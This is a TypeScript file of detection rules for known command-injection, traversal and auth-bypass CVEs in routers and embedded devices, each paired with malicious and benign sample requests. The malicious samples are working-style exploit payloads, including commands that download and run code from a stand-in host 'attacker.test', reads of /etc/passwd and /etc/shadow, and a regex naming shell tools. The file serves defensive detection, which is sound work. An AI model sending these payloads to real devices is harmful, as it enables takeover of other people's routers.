import { formPost, get, xmlPost } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  bodyMatches,
  decodedQueryMatches,
  decodedUriHas,
  fieldHas,
  fieldHasShell,
  fieldIs,
  fieldMatches,
  hasField,
  headerMatches,
  pathHas,
  pathIs,
  queryHas,
  rawPathHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

/** Characters that end a command or substitute its output, with more behind them. */
const SUBSTITUTION = '[;|`] *[a-z/$]|\\$\\([a-z/]|`[a-z/]';

export const routerRules = [
  detection({
    ref: 'managed-router-form-command',
    description:
      'Tenda, D-Link, Totolink and others: run commands in a field of a form of the router (CVE-2018-14558, CVE-2020-10987, CVE-2021-35395)',
    categories: [
      'tenda',
      'd-link',
      'totolink',
      'realtek',
      'command-injection',
      'cve-2018-14558',
      'cve-2020-10987',
      'cve-2021-35395',
    ],
    expression: allOf(
      pathHas('/goform/', '/boafrm/'),
      anyOf(bodyMatches(SUBSTITUTION), decodedQueryMatches(SUBSTITUTION)),
    ),
    matching: [
      get('/goform/setUsbUnload/.js?deviceName=A;wget%20http://attacker.test/x'),
      formPost('/goform/formSysCmd', {
        sysCmd: 'wget http://attacker.test/x -O /tmp/x; sh /tmp/x',
      }),
      formPost('/boafrm/formWsc', { peerPin: '1;`id`' }),
    ],
    other: [
      formPost('/goform/setWifi', { ssid: 'Home & Garden', security: 'wpa2' }),
      get('/goform/getStatus?random=0.5'),
    ],
  }),
  detection({
    ref: 'managed-d-link-hnap',
    description:
      'D-Link: runs commands in the name of an action (CVE-2015-2051, CVE-2019-10891, CVE-2022-37056)',
    categories: [
      'd-link',
      'command-injection',
      'header',
      'cve-2015-2051',
      'cve-2019-10891',
      'cve-2022-37056',
    ],
    expression: allOf(
      pathHas('/hnap1'),
      anyOf(headerMatches('soapaction', '[`;|&]|\\$\\('), bodyMatches('[`|]|\\$\\(|[^a-z0-9#];')),
    ),
    matching: [
      xmlPost('/HNAP1/', '<x/>', {
        soapaction: '"http://purenetworks.com/HNAP1/GetDeviceSettings/`wget attacker.test`"',
      }),
      xmlPost('/HNAP1/', '<SetNTPServer><Server>;id;</Server></SetNTPServer>'),
    ],
    other: [
      xmlPost('/HNAP1/', '<GetDeviceSettings/>', {
        soapaction: '"http://purenetworks.com/HNAP1/GetDeviceSettings"',
      }),
      get('/HNAP1/'),
    ],
  }),
  detection({
    ref: 'managed-d-link-router',
    description:
      'D-Link routers: read passwords or run commands without authentication (CVE-2018-10822, CVE-2019-16920, CVE-2021-45382)',
    categories: [
      'd-link',
      'command-injection',
      'information-disclosure',
      'cve-2018-10822',
      'cve-2019-16920',
      'cve-2021-45382',
    ],
    expression: anyOf(
      allOf(pathHas('/getcfg.php'), bodyHas('authorized_group', '\n', 'device.account')),
      allOf(pathHas('/apply_sec.cgi', '/ddns_check.ccp'), bodyMatches('[`;]|\\$\\(|\\n')),
      allOf(pathHas('/login.cgi'), queryHas('cli=')),
    ),
    matching: [
      formPost('/getcfg.php', { SERVICES: 'DEVICE.ACCOUNT\nAUTHORIZED_GROUP=1' }),
      formPost('/apply_sec.cgi', {
        html_response_page: 'login_pic.asp',
        action: 'ping_test',
        ping_ipaddr: '127.0.0.1\nid',
      }),
      get('/login.cgi?cli=aa%20aa%27;wget%20http://attacker.test'),
    ],
    other: [
      get('/getcfg.php?x=1'),
      formPost('/apply_sec.cgi', { action: 'ping_test', ping_ipaddr: '192.0.2.1' }),
    ],
  }),
  detection({
    ref: 'managed-tp-link-locale',
    description: 'TP-Link Archer: runs commands with the country of a form (CVE-2023-1389)',
    categories: ['tp-link', 'command-injection', 'cve-2023-1389'],
    expression: allOf(pathHas('/cgi-bin/luci'), decodedUriHas('/locale'), fieldHasShell('country')),
    matching: [
      get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)'),
      formPost('/cgi-bin/luci/;stok=/locale?form=country', { operation: 'write', country: '`id`' }),
    ],
    other: [
      get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=DE'),
      get('/cgi-bin/luci/admin/status'),
    ],
  }),
  detection({
    ref: 'managed-tp-link-files',
    description: 'TP-Link Archer: reads files behind the log-in page (CVE-2015-3035)',
    categories: ['tp-link', 'directory-traversal', 'cve-2015-3035'],
    expression: allOf(rawPathHas('/login/../', '/help/../', '/images/../../')),
    matching: [get('/login/../../../etc/passwd'), get('/help/../../etc/shadow')],
    other: [get('/login/'), get('/help/index.html')],
  }),
  detection({
    ref: 'managed-netgear-set-up',
    description:
      'Netgear: runs commands with the set-up or the path (CVE-2016-1555, CVE-2016-6277, CVE-2024-12847)',
    categories: [
      'netgear',
      'command-injection',
      'cve-2016-1555',
      'cve-2016-6277',
      'cve-2024-12847',
    ],
    expression: anyOf(
      allOf(pathHas('/setup.cgi'), fieldIs('todo', 'syscmd')),
      rawPathHas('/cgi-bin/;'),
      allOf(
        pathHas('/boarddatana.php', '/boarddatajp.php', '/boarddataww.php'),
        fieldMatches('macAddress', '[;`|]|\\$\\('),
      ),
    ),
    matching: [
      get(
        '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/&currentsetting.htm=1',
      ),
      get('/cgi-bin/;wget$IFS-g$IFS/x'),
      formPost('/boardDataNA.php', { macAddress: '001122334455;id;', reginfo: '0' }),
    ],
    other: [get('/setup.cgi?next_file=index.htm&todo=save'), get('/cgi-bin/status')],
  }),
  detection({
    ref: 'managed-netgear-password-recovery',
    description: 'Netgear: reads the password of the administrator (CVE-2017-5521)',
    categories: ['netgear', 'information-disclosure', 'cve-2017-5521'],
    action: 'log',
    expression: allOf(pathHas('/passwordrecovered.cgi'), hasField('id')),
    matching: [
      get('/passwordrecovered.cgi?id=1844674407'),
      formPost('/passwordrecovered.cgi?id=1', { x: '1' }),
    ],
    other: [get('/passwordrecovery.html'), get('/passwordrecovered.cgi')],
  }),
  detection({
    ref: 'managed-gpon-router',
    description:
      'GPON routers: skip authentication and run commands (CVE-2018-10561, CVE-2018-10562)',
    categories: [
      'gpon',
      'authentication-bypass',
      'command-injection',
      'cve-2018-10561',
      'cve-2018-10562',
    ],
    expression: allOf(
      pathHas('/gponform/', '/menu.html'),
      anyOf(queryHas('images/'), fieldHasShell('dest_host')),
    ),
    matching: [
      formPost('/GponForm/diag_Form?images/', {
        XWebPageName: 'diag',
        diag_action: 'ping',
        dest_host: '`wget attacker.test`;',
        ipv: '0',
      }),
      get('/menu.html?images/'),
    ],
    other: [formPost('/GponForm/LoginForm', { username: 'ada' }), get('/menu.html?page=2')],
  }),
  detection({
    ref: 'managed-embedded-command-script',
    description:
      'Linksys, MVPower, Vacron, Netgear, NUUO, Edimax, Raisecom, DrayTek: run commands with scripts of the device (CVE-2016-20016, CVE-2018-14933, CVE-2020-8515, CVE-2024-7120, CVE-2025-1316)',
    categories: [
      'linksys',
      'mvpower',
      'nuuo',
      'edimax',
      'raisecom',
      'draytek',
      'command-injection',
      'cve-2016-20016',
      'cve-2018-14933',
      'cve-2020-8515',
      'cve-2024-7120',
      'cve-2025-1316',
    ],
    expression: anyOf(
      allOf(pathHas('/tmunblock.cgi', '/hndunblock.cgi'), fieldHasShell('ttcp_ip')),
      allOf(
        pathIs('/shell'),
        decodedQueryMatches(
          '^(?:cd|wget|curl|rm|chmod|sh|cat|busybox|id|ls|uname|echo|tftp)(?:[ ;/&]|$)',
        ),
      ),
      allOf(pathHas('/board.cgi'), hasField('cmd')),
      allOf(pathHas('/upgrade_handle.php'), fieldMatches('uploaddir', "[';`|]")),
      allOf(pathHas('/camera-cgi/admin/param.cgi'), bodyMatches(SUBSTITUTION)),
      allOf(pathHas('/vpn/list_base_config.php'), fieldHasShell('template')),
      allOf(
        pathHas('/cgi-bin/mainfunction.cgi'),
        anyOf(
          fieldHasShell('keyPath', 'rtick', 'session', 'loginUser'),
          fieldHas('keyPath', '%27', "'"),
        ),
      ),
    ),
    matching: [
      formPost('/tmUnblock.cgi', {
        submit_button: '',
        ttcp_ip: '-h `cd /tmp; wget http://attacker.test/x`',
        StartEPI: '1',
      }),
      get('/shell?cd+/tmp;wget+http://attacker.test/x'),
      formPost('/cgi-bin/mainfunction.cgi', {
        action: 'login',
        keyPath: "'\n/bin/sh${IFS}-c${IFS}'id'",
        loginUser: 'a',
      }),
      get('/vpn/list_base_config.php?type=mod&parts=base_config&template=%60id%60'),
    ],
    other: [
      formPost('/tmUnblock.cgi', { ttcp_ip: '192.0.2.7' }),
      get('/shell?station=12'),
      formPost('/cgi-bin/mainfunction.cgi', { action: 'login', keyPath: '5f3a', loginUser: 'ada' }),
    ],
  }),
  detection({
    ref: 'managed-huawei-upgrade',
    description: 'Huawei HG532: runs commands with an upgrade over UPnP (CVE-2017-17215)',
    categories: ['huawei', 'command-injection', 'cve-2017-17215'],
    expression: allOf(pathHas('/ctrlt/deviceupgrade_1'), bodyMatches('[`|]|\\$\\(|[^a-z0-9#];')),
    matching: [
      xmlPost(
        '/ctrlt/DeviceUpgrade_1',
        '<u:Upgrade><NewStatusURL>$(/bin/busybox wget attacker.test)</NewStatusURL></u:Upgrade>',
      ),
      xmlPost('/ctrlt/DeviceUpgrade_1', '<NewDownloadURL>;id</NewDownloadURL>'),
    ],
    other: [
      xmlPost(
        '/ctrlt/DeviceUpgrade_1',
        '<u:Upgrade><NewStatusURL>http://updates.example.com</NewStatusURL></u:Upgrade>',
      ),
      get('/ctrlt/DeviceUpgrade_1'),
    ],
  }),
  detection({
    ref: 'managed-zeroshell-command',
    description:
      'Zeroshell, Ruckus: run commands with an argument of a log-in (CVE-2019-12725, CVE-2023-25717)',
    categories: ['zeroshell', 'ruckus', 'command-injection', 'cve-2019-12725', 'cve-2023-25717'],
    expression: anyOf(
      allOf(pathHas('/cgi-bin/kerbynet'), fieldMatches('x509type', "[\\n;`']")),
      allOf(
        pathHas('/forms/dologin'),
        anyOf(fieldMatches('password', '\\$\\(|`'), fieldMatches('login_username', '\\$\\(|`')),
      ),
    ),
    matching: [
      get(
        '/cgi-bin/kerbynet?Action=StartSessionSubmit&User=%27%0acat%20/etc/passwd%0a%27&x509type=%27%0aid%0a%27',
      ),
      get('/forms/doLogin?login_username=admin&password=x$(curl%20attacker.test)'),
    ],
    other: [
      get('/cgi-bin/kerbynet?Action=x509List&x509type=user'),
      formPost('/forms/doLogin', { login_username: 'ada', password: 'pa$$word' }),
    ],
  }),
];
